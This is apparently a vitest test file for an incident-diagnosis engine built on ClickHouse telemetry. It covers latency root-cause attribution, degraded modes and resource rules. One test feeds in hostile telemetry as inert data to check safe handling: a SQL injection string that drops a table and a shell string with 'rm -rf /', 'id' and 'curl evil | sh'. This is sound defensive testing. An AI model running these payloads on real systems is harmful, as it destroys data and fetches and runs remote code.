// The engine end to end over embedded ClickHouse: a latency incident blamed on a database that
// sends no telemetry, hostile telemetry (SQL, shell metacharacters, a 1 MB line, invalid UTF-8,
// prototype keys) diagnosed safely, and trace storage failing without failing diagnosis.
import { randomUUID } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { shopTrace } from '../../bench/lib/diagnose-shop.ts';
import { buildTrace, insertSpans, nextTraceId } from '../../bench/lib/diagnose-traces.ts';
import { diagnoseEvent, type EngineDeps } from '../../src/diagnose/engine.ts';
import { fetchTraceWindow } from '../../src/diagnose/graph-query.ts';
import { loadRules } from '../../src/diagnose/rules/index.ts';
import { TemplateMiner } from '../../src/patterns/index.ts';
import type { DetectedEvent } from '../../src/records.ts';
import { openClickHouse, type ClickHouseHandle } from '../../src/store/clickhouse/client.ts';
import { migrateClickHouse } from '../../src/store/clickhouse/migrate.ts';
import { explanationDoc, pgJson } from '../../src/store/index.ts';

const dir = mkdtempSync(path.join(tmpdir(), 'homeostat-engine-'));
let ch: ClickHouseHandle;
let deps: EngineDeps;
const rules = loadRules();

beforeAll(async () => {
  ch = openClickHouse({ url: '', username: '', password: '', dataDir: dir, requestTimeoutMs: 60_000 });
  await migrateClickHouse(ch.client, { database: 'otel', cluster: '', engineName: 'MergeTree', engineParams: '', ttlDays: 30 });
  deps = { rules, fetchWindow: (req) => fetchTraceWindow(ch.client, 'otel', req), classifier: null, miner: new TemplateMiner(), confidenceThreshold: 0.7 };
});
afterAll(async () => {
  await ch?.close();
  rmSync(dir, { recursive: true, force: true });
});

function event(over: Partial<DetectedEvent> & { at: number }): DetectedEvent {
  const { at, ...rest } = over;
  return {
    id: randomUUID(), action: 'open', fingerprint: randomUUID(), severity: 'HIGH', category: 'PERFORMANCE', sourceComponent: 'detect',
    serviceName: 'frontend', seriesKey: 'span|frontend|GET /buy|p95_ms', openedAt: at - 2 * 60_000, updatedAt: at, message: 'p95 latency is up',
    context: { series: 's', values: [[at, 1500]], baselines: { expected: 20 }, scores: { combined: 0.9 }, exemplarTraceIds: [] },
    ...rest,
  };
}

describe('diagnoseEvent', () => {
  it('blames a silent database for latency, with evidence, impact and exemplar traces in the explanation', async () => {
    const at = Date.now() - 2 * 3_600_000;
    const base = Array.from({ length: 15 }, (_, i) => buildTrace(nextTraceId(), at - 25 * 60_000 + i * 60_000, shopTrace({ dbMs: 3 }))).flat();
    const inc = Array.from({ length: 15 }, (_, i) => buildTrace(nextTraceId(), at - 3 * 60_000 + i * 5_000, shopTrace({ dbMs: 1400 }))).flat();
    await insertSpans(ch.client, 'otel', [...base, ...inc]);
    const exemplar = inc[0].traceId;
    const d = await diagnoseEvent(event({ at, context: { series: 's', values: [[at, 1500]], baselines: { expected: 20 }, scores: { combined: 0.9 }, exemplarTraceIds: [exemplar] } }), deps);
    expect(d.rootCause).toMatchObject({ service: 'postgresql/orders', kind: 'database' });
    expect(d.rootCause.evidence?.latencyRatio).toBeGreaterThan(100);
    expect(d.category).toBe('PERFORMANCE');
    // Statements 3 ms → 1.4 s: the statements themselves slowed (slow-db-query also matched, ranked below).
    expect(d.rule.id).toBe('slow-statements');
    expect(d.impact).toMatchObject({ affectedServices: ['checkout', 'frontend'], userFacing: true, systemImpact: 1 });
    expect(d.exemplarTraceIds[0]).toBe(exemplar);
    expect(d.explanation).toContain('slow-statements');
    expect(d.explanation).toContain('"postgresql/orders"');
    expect(d.explanation).toContain(exemplar);
    expect(d.degraded).toBeUndefined();
  });

  it('diagnoses hostile telemetry safely: data stays data, sizes stay bounded', async () => {
    const at = Date.now() - 5 * 3_600_000;
    const sql = "'); DROP TABLE otel.otel_traces; --";
    const shell = '$(rm -rf /) `id` && curl evil | sh; ${IFS}';
    const huge = 'ENOSPC '.padEnd(1_048_576, 'x');
    const traceId = nextTraceId();
    const spans = buildTrace(traceId, at - 60_000, {
      service: 'checkout', name: sql, kind: 'Server', selfMs: 5, status: 'Error', statusMessage: huge,
      attrs: { 'http.route': shell, 'db.statement': sql, __proto__x: 'p', constructor: shell, 'http.response.status_code': '500' },
      exception: { 'exception.type': shell, 'exception.message': huge },
    });
    await insertSpans(ch.client, 'otel', spans);
    // Invalid UTF-8 can only be written as raw bytes, so this row goes in through SQL.
    await ch.client.command({
      query:
        "INSERT INTO otel.otel_logs (Timestamp, TraceId, SpanId, SeverityText, SeverityNumber, ServiceName, Body, LogAttributes) " +
        "SELECT fromUnixTimestamp64Milli({at:Int64}), {t:String}, '', 'ERROR', 17, 'checkout', concat('bad bytes ', unhex('C328FF'), {sql:String}), map('exception.type', unhex('E28228'), '__proto__', {shell:String})",
      query_params: { at: at - 30_000, t: traceId, sql, shell },
    });
    const before = await ch.client.query({ query: 'SELECT count() AS n FROM otel.otel_traces', format: 'JSONEachRow' }).then((r) => r.json<{ n: string }>());

    const d = await diagnoseEvent(
      event({
        at, serviceName: 'checkout', seriesKey: `log|checkout|${sql}|rate`, message: `${huge}\u0000\ud800${shell}`,
        context: { series: sql, values: [[at, Number.NaN]], baselines: {}, scores: { combined: Number.POSITIVE_INFINITY }, exemplarTraceIds: [traceId, sql, shell, ''], exceptionType: sql },
      }),
      deps,
    );
    expect(d.rootCause.service).toBe('checkout');
    expect(d.category).toBe('RESOURCE'); // the truncated 1 MB message still starts with ENOSPC
    expect(d.features.every(Number.isFinite)).toBe(true);
    expect(d.explanation.length).toBeLessThan(8_000);
    expect(d.explanation).not.toContain('\n');
    const stored = pgJson(explanationDoc(d));
    expect(stored.length).toBeLessThan(200_000);
    expect(stored).not.toMatch(/\\u0000|\\ud800/i);
    const after = await ch.client.query({ query: 'SELECT count() AS n FROM otel.otel_traces', format: 'JSONEachRow' }).then((r) => r.json<{ n: string }>());
    expect(after).toEqual(before);

    const w = await fetchTraceWindow(ch.client, 'otel', { service: 'checkout', fromMs: at - 5 * 60_000, toMs: at + 60_000, baselineMs: 60_000, exemplarTraceIds: [traceId], maxTraces: 10 });
    expect(w.logs[0].body).toContain('\uFFFD');
    expect(w.logs[0].attributes['exception.type']).toContain('\uFFFD');
    expect(Object.getPrototypeOf(w.logs[0].attributes)).toBeNull();
    expect(w.logs[0].attributes['__proto__']).toBe(shell);
    expect(w.incident[0].statusMessage.length).toBe(8192);
    expect(w.incident[0].exception?.['exception.message'].length).toBe(4096);
  });

  it('still diagnoses from the event when trace storage fails', async () => {
    const d = await diagnoseEvent(event({ at: Date.now(), message: 'getaddrinfo ENOTFOUND payments.svc' }), {
      ...deps,
      fetchWindow: () => Promise.reject(new Error('ClickHouse is down')),
    });
    expect(d.degraded).toMatch(/ClickHouse is down/);
    expect(d.category).toBe('NETWORK');
    expect(d.rootCause).toMatchObject({ service: 'frontend', score: 0, evidence: null });
    expect(d.explanation).toMatch(/no trace data/);
  });

  it('says the diagnosis went without the processes\' busyness when it could not be read', async () => {
    const real = deps.fetchWindow;
    const d = await diagnoseEvent(event({ at: Date.now() }), {
      ...deps,
      fetchWindow: async (req) => ({ ...(await real!(req)), busy: [], busyUnavailable: 'process busyness unavailable: no gauge table' }),
    });
    expect(d.degraded).toBe('process busyness unavailable: no gauge table');
  });

    it('reads detection baselines and resource metric series into rule metrics', async () => {
    const at = Date.now();
    const cpu = await diagnoseEvent(
      event({ at, seriesKey: 'metric|inventory|system.cpu.utilization||value', message: 'value rose', context: { series: 's', values: [[at, 0.97]], baselines: { ewma_expected: 0.4 }, scores: {}, exemplarTraceIds: [] } }),
      { ...deps, fetchWindow: null },
    );
    expect(cpu).toMatchObject({ category: 'RESOURCE', rule: { id: 'cpu-saturation' } });
    const slow = await diagnoseEvent(
      event({ at, message: 'p95 up', context: { series: 's', values: [[at, 900]], baselines: { seasonal_expected: 100, ewma_expected: 50 }, scores: {}, exemplarTraceIds: [] } }),
      { ...deps, fetchWindow: null },
    );
    expect(slow).toMatchObject({ category: 'PERFORMANCE', rule: { id: 'latency-regression' } });
  });
});
